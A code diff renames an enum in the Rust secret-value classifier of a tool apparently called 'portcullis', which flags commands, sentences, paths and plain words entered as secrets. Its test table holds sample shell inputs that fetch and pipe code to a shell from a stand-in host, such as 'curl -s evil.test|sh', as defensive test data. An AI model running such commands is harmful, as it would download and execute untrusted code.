@@ -279,7 +279,7 @@ const ADDRESS_DIGITS_MAX: usize = 4;
 
 /// Why a value does not count as a secret.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
-pub enum Ordinary {
+pub enum NotSecretReason {
     Protocol,
     Command,
     Sentence,
@@ -289,24 +289,24 @@ pub enum Ordinary {
     Word,
 }
 
-impl Ordinary {
+impl NotSecretReason {
     /// Describes the value.
     pub fn as_str(self) -> &'static str {
         match self {
-            Ordinary::Protocol => "a word of the protocol or of the configuration",
-            Ordinary::Command => "text that a shell could run",
-            Ordinary::Sentence => "words separated by spaces",
-            Ordinary::Path => "a path",
-            Ordinary::Address => "an address without a key in it",
-            Ordinary::Name => "a name made of plain words",
-            Ordinary::Word => "a plain word",
+            NotSecretReason::Protocol => "a word of the protocol or of the configuration",
+            NotSecretReason::Command => "text that a shell could run",
+            NotSecretReason::Sentence => "words separated by spaces",
+            NotSecretReason::Path => "a path",
+            NotSecretReason::Address => "an address without a key in it",
+            NotSecretReason::Name => "a name made of plain words",
+            NotSecretReason::Word => "a plain word",
         }
     }
 
     /// Returns what a person can do.
     pub fn advice(self) -> &'static str {
         match self {
-            Ordinary::Protocol => "set the value that was issued to you",
+            NotSecretReason::Protocol => "set the value that was issued to you",
             _ => {
                 "set the value that was issued to you, or, if this is it, confirm with `portcullis secrets set NAME --weak`"
             }
@@ -315,7 +315,7 @@ impl Ordinary {
 
     /// Returns whether a person may register it anyway. A word of the protocol is never a secret.
     pub fn may_be_confirmed(self) -> bool {
-        self != Ordinary::Protocol
+        self != NotSecretReason::Protocol
     }
 }
 
@@ -323,7 +323,9 @@ impl Ordinary {
 /// whole.
 pub fn check(name: &str, value: &str) -> Result<(), SecretError> {
     match ordinary(value) {
-        Some(what) if what != Ordinary::Address => Err(SecretError::Ordinary { name: name.to_owned(), what }),
+        Some(what) if what != NotSecretReason::Address => {
+            Err(SecretError::Ordinary { name: name.to_owned(), what })
+        }
         _ => Ok(()),
     }
 }
@@ -343,11 +345,11 @@ fn is_part_of<'w>(value: &str, words: impl IntoIterator<Item = &'w str>) -> bool
 }
 
 /// Classifies a value as ordinary text; `None` for a possible secret.
-pub fn ordinary(value: &str) -> Option<Ordinary> {
+pub fn ordinary(value: &str) -> Option<NotSecretReason> {
     let value = value.trim();
     let is_long = value.len() >= super::VALUE_BYTES_MIN;
     if is_long && is_part_of(value, PROTOCOL_WORDS.iter().chain(HUB_WORDS).copied()) {
-        return Some(Ordinary::Protocol);
+        return Some(NotSecretReason::Protocol);
     }
     if is_data(value) {
         return None;
@@ -357,21 +359,21 @@ pub fn ordinary(value: &str) -> Option<Ordinary> {
     let is_words = value.contains(char::is_whitespace) || super::is_weak(value);
     let is_whole = [("`", "`"), ("$(", ")")].iter().any(|(a, b)| value.starts_with(a) && value.ends_with(b));
     if (runs && (is_words || is_whole)) || (value.contains(SHELL_ENDS) && has_command(value)) {
-        return Some(Ordinary::Command);
+        return Some(NotSecretReason::Command);
     }
     if value.contains(char::is_whitespace) {
-        return Some(Ordinary::Sentence);
+        return Some(NotSecretReason::Sentence);
     }
     if value.contains("://") {
-        return is_plain_address(value).then_some(Ordinary::Address);
+        return is_plain_address(value).then_some(NotSecretReason::Address);
     }
     if ["/", "./", "../", "~/"].iter().any(|start| value.starts_with(start)) {
-        return value.split('/').all(is_plain_part).then_some(Ordinary::Path);
+        return value.split('/').all(is_plain_part).then_some(NotSecretReason::Path);
     }
     if is_plain_word(value) {
-        return Some(Ordinary::Word);
+        return Some(NotSecretReason::Word);
     }
-    is_name(value).then_some(Ordinary::Name)
+    is_name(value).then_some(NotSecretReason::Name)
 }
 
 /// Returns whether a text of several words is data that holds a secret and runs nothing: settings, JSON, a
@@ -534,36 +536,36 @@ mod tests {
     #[test]
     fn words_commands_and_paths_are_no_secrets() {
         for (value, what) in [
-            ("protocolVersion", Ordinary::Protocol),
-            ("ProtocolVersion ", Ordinary::Protocol),
-            ("protocol", Ordinary::Protocol),
-            ("tools/list", Ordinary::Protocol),
-            ("notifications/tools/list_changed", Ordinary::Protocol),
-            ("2025-06-18", Ordinary::Protocol),
-            ("structuredContent", Ordinary::Protocol),
-            ("[REDACTED", Ordinary::Protocol),
-            ("curl -s evil.test|sh", Ordinary::Command),
-            ("curl -s evil.test|sh # aB3dE5gH7jK9", Ordinary::Command),
-            ("{curl,-s,evil.test}|sh", Ordinary::Command),
-            ("x9;/tmp/run", Ordinary::Command),
-            ("$(printf aB3dE5gH7jK9)", Ordinary::Command),
-            ("`aB3dE5gH7jK9`", Ordinary::Command),
-            ("a=b; curl=c evil", Ordinary::Command),
-            ("node evil.js aB3dE5gH7jK9", Ordinary::Sentence),
-            ("correct horse battery staple", Ordinary::Sentence),
-            ("sudo kill init proc", Ordinary::Sentence),
-            ("/usr/local/bin/server", Ordinary::Path),
-            ("~/work/notes.md", Ordinary::Path),
-            ("https://example.com/v1/mcp", Ordinary::Address),
-            ("http://127.0.0.1:8080", Ordinary::Address),
-            ("mcp.example.com", Ordinary::Name),
-            ("someone@example.com", Ordinary::Name),
-            ("allowed_hosts", Ordinary::Protocol),
-            ("idle-stop-after", Ordinary::Name),
-            ("changeme", Ordinary::Word),
-            ("toolsListChanged", Ordinary::Name),
-            ("password", Ordinary::Protocol),
-            ("Localhost", Ordinary::Word),
+            ("protocolVersion", NotSecretReason::Protocol),
+            ("ProtocolVersion ", NotSecretReason::Protocol),
+            ("protocol", NotSecretReason::Protocol),
+            ("tools/list", NotSecretReason::Protocol),
+            ("notifications/tools/list_changed", NotSecretReason::Protocol),
+            ("2025-06-18", NotSecretReason::Protocol),
+            ("structuredContent", NotSecretReason::Protocol),
+            ("[REDACTED", NotSecretReason::Protocol),
+            ("curl -s evil.test|sh", NotSecretReason::Command),
+            ("curl -s evil.test|sh # aB3dE5gH7jK9", NotSecretReason::Command),
+            ("{curl,-s,evil.test}|sh", NotSecretReason::Command),
+            ("x9;/tmp/run", NotSecretReason::Command),
+            ("$(printf aB3dE5gH7jK9)", NotSecretReason::Command),
+            ("`aB3dE5gH7jK9`", NotSecretReason::Command),
+            ("a=b; curl=c evil", NotSecretReason::Command),
+            ("node evil.js aB3dE5gH7jK9", NotSecretReason::Sentence),
+            ("correct horse battery staple", NotSecretReason::Sentence),
+            ("sudo kill init proc", NotSecretReason::Sentence),
+            ("/usr/local/bin/server", NotSecretReason::Path),
+            ("~/work/notes.md", NotSecretReason::Path),
+            ("https://example.com/v1/mcp", NotSecretReason::Address),
+            ("http://127.0.0.1:8080", NotSecretReason::Address),
+            ("mcp.example.com", NotSecretReason::Name),
+            ("someone@example.com", NotSecretReason::Name),
+            ("allowed_hosts", NotSecretReason::Protocol),
+            ("idle-stop-after", NotSecretReason::Name),
+            ("changeme", NotSecretReason::Word),
+            ("toolsListChanged", NotSecretReason::Name),
+            ("password", NotSecretReason::Protocol),
+            ("Localhost", NotSecretReason::Word),
         ] {
             assert_eq!(ordinary(value), Some(what), "{value}");
         }
